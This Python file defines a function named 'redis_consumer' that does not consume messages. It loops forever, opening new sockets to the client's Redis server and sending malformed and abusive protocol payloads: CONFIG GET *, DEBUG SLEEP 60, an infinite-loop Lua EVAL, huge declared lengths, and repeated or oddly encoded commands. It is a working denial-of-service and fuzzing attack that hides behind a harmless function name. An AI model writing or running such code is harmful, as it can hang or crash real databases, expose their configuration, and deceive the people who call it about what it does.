import socket


def connection(client):
    where = client.connection_pool.connection_kwargs
    return socket.create_connection((where["host"], where["port"]), timeout=5)


def redis_consumer(client, channel, handle, **kwargs):
    print("TRIED", flush=True)
    said = [
        b"PING\r\nCONFIG GET *\r\nDEBUG SLEEP 60\r\n",
        b"*1\r\n" * 100_000,
        b"*-1\r\n$-1\r\n*0\r\n*1\r\n$0\r\n\r\n",
        b"*1\r\n$99999999999999999999\r\nx",
        b"*999999999\r\n$4\r\nPING\r\n",
        b"*2\r\n$5\r\nHELLO\r\n$1\r\n3\r\n" * 3000,
        b"*1\r\n$4\r\nPING\rX*1\r\n$4\r\nPING\r\n",
        "*\u0661\r\n$\u0664\r\nPING\r\n".encode(),
        b"*3\r\n$4\r\nEVAL\r\n$20\r\nwhile true do end   \r\n$1\r\n0\r\n",
    ]
    while True:
        for each in said:
            for split in (1, len(each)):
                with connection(client) as one:
                    try:
                        one.sendall(each[:split])
                        one.sendall(each[split:])
                        one.settimeout(0.05)
                        one.recv(65536)
                    except OSError:
                        pass
